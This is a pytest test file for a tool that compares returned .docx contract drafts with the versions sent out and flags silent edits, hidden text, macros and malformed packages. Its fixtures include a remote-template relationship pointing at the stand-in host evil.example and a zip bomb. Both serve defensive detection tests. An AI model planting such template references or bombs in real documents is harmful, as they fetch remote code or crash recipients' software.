"""The other side's draft comes back: kept as it is, compared, and told clause by clause."""

import hashlib
import io
import json
import sqlite3
import zipfile
from contextlib import closing

import pytest

WORD, FOOTER = "word/document.xml", "word/footer1.xml"
TEMPLATE = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HIDDEN = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>乙方得隨時終止。</w:t></w:r></w:p>"
MARKED = (
    '<w:p><w:ins w:id="900" w:author="許和風" w:date="2026-11-20T01:00:00Z">'
    "<w:r><w:t>乙方保留修改權。</w:t></w:r></w:ins></w:p>"
)


@pytest.fixture
def drafted(confirmed):
    """The command in a folder whose contract was drafted, and saved as it is sent."""
    confirmed("draft", "1")
    confirmed("documents", "save", "1", "--out", "sent")
    return confirmed


@pytest.fixture
def returned(drafted):
    """Writes what the other side returned: the contract, with parts changed."""

    def write(**changes):
        (sent,) = (drafted.folder / "sent").glob("*services-r1*.docx")
        with zipfile.ZipFile(sent) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        for name, change in changes.items():
            part = {"body": WORD, "relations": "word/_rels/document.xml.rels"}.get(name, name)
            before = parts[part].decode()
            parts[part] = change(before).encode()
            assert parts[part].decode() != before
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
            for name, content in parts.items():
                package.writestr(name, content)
        (drafted.folder / "returned.docx").write_bytes(target.getvalue())
        return target.getvalue()

    return write


def edited(text):
    """Return the contract with a price raised in silence, and things put in at its end."""
    end = text.rindex("<w:sectPr")
    return text[:end].replace("NT$90", "NT$99", 1) + HIDDEN + MARKED + text[end:]


def test_what_came_back_as_it_was_sent_has_nothing_to_tell(drafted, returned):
    (sent,) = (drafted.folder / "sent").glob("*services-r1*.docx")
    (drafted.folder / "returned.docx").write_bytes(sent.read_bytes())

    told = drafted("import-draft", "1", "returned.docx").out

    assert told.splitlines()[1:] == ["Nothing was changed without being marked."]


def test_a_silent_edit_is_told_with_its_clause_and_apart_from_proposals(drafted, returned):
    returned(body=edited)

    told = drafted("import-draft", "1", "returned.docx").out

    silent, proposed = told.split("Marked as revisions:")
    assert "\n附件一  價目表\n" in silent
    assert "[-NT$90-] {+NT$99+}" in silent
    assert "{+乙方保留修改權。+}" in proposed
    assert "there is text that a reader cannot see: 乙方得隨時終止。" in proposed


def test_the_same_is_told_in_chinese_of_what_was_recorded_in_english(drafted, returned):
    returned(body=lambda text: text.replace("壹仟壹佰參", "壹仟貳佰參").replace("和風客服", "和風服務"))
    drafted("import-draft", "1", "returned.docx", "--once", "a")

    chinese = drafted("import-draft", "1", "returned.docx", "--once", "a", "--lang", "zh-TW").out

    assert "未標示的修改：" in chinese
    assert "民法" in chinese
    assert not [line for line in chinese.splitlines() if line.startswith("! it ")]


def test_what_came_back_is_kept_byte_for_byte(drafted, returned):
    body = returned(body=edited, relations=lambda text: text.replace("</Relationships>", TEMPLATE))

    told = drafted.json("import-draft", "1", "returned.docx", "--note", "by mail")

    with closing(sqlite3.connect(drafted.folder / "assent.db")) as store:
        digest = hashlib.sha256(body).hexdigest()
        assert store.execute("SELECT count(*) FROM content WHERE sha256 = ?", [digest]).fetchone() == (1,)
    assert told["fetched"] == ["http://evil.example/t.dotm"]
    assert {each["kind"] for each in told["unseen"]} == {"hidden text"}
    assert "NT$99" in json.dumps(told["hidden"])


def test_a_retry_does_nothing_new_even_without_the_file(drafted, returned):
    returned(body=edited)
    first = drafted.json("import-draft", "1", "returned.docx", "--once", "a")
    (drafted.folder / "returned.docx").unlink()

    with drafted.nothing_recorded():
        again = drafted.json("import-draft", "1", "returned.docx", "--once", "a")

    assert again == first


def test_plain_text_is_compared_too(drafted):
    drafted.write("reply.txt", "第一條 定義\n乙方得隨時終止。\n")

    told = drafted("import-draft", "1", "reply.txt").out

    assert "簽署   (removed)" in told
    assert "page header" not in told
    assert "it does not name the agreed date 2026-12-01" in told


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"\xd0\xcf\x11\xe0" * 100, "W054"),
        (b"PK\x03\x04 no package", "W054"),
        (b" \n", "W026"),
    ],
)
def test_what_is_no_draft_is_refused_and_leaves_nothing(drafted, content, error):
    (drafted.folder / "returned.docx").write_bytes(content)

    refused = drafted.refuses(error, 1 if error == "W054" else 2, "import-draft", "1", "returned.docx")

    assert "returned.docx" in refused.err


def test_a_draft_with_macros_is_refused_by_its_name(drafted, returned):
    returned(
        **{
            "[Content_Types].xml": lambda text: text.replace(
                "document.main+xml", "document.macroEnabled.main+xml"
            )
        }
    )

    refused = drafted.refuses("W054", 1, "import-draft", "1", "returned.docx")

    assert "returned.docx cannot be compared: it is a document with macros" in refused.err


def test_a_bomb_is_refused_and_leaves_nothing(drafted, returned):
    def bomb(text):
        end = text.rindex("<w:sectPr")
        return text[:end] + "<w:p/>" * 3_000_000 + text[end:]

    returned(body=bomb)

    drafted.refuses("W054", 1, "import-draft", "1", "returned.docx")


def test_a_silent_edit_between_files_is_told_with_what_it_fetches(drafted, returned):
    returned(body=edited, relations=lambda text: text.replace("</Relationships>", TEMPLATE))
    (sent,) = (drafted.folder / "sent").glob("*services-r1*.docx")

    told = drafted("diff", "--accept", "--files", sent, "returned.docx", "--docx", "marked.docx").out

    assert "returned.docx fetches http://evil.example/t.dotm when it is opened" in told
    with zipfile.ZipFile(drafted.folder / "marked.docx") as package:
        assert not [name for name in package.namelist() if b"evil.example" in package.read(name)]


def test_author_and_date_of_tracked_changes_can_be_given(drafted, returned):
    returned(body=lambda text: text.replace("NT$90", "NT$99", 1))
    (sent,) = (drafted.folder / "sent").glob("*services-r1*.docx")

    made = []
    for name in ("one.docx", "two.docx"):
        words = ("--author", "許和風", "--date", "2026-11-20", "--docx", name)
        drafted("diff", "--files", sent, "returned.docx", *words)
        made.append((drafted.folder / name).read_bytes())
        (drafted.folder / "returned.docx").touch()

    assert made[0] == made[1]
    with zipfile.ZipFile(drafted.folder / "one.docx") as package:
        assert 'w:author="許和風" w:date="2026-11-20T00:00:00Z"' in package.read(WORD).decode()
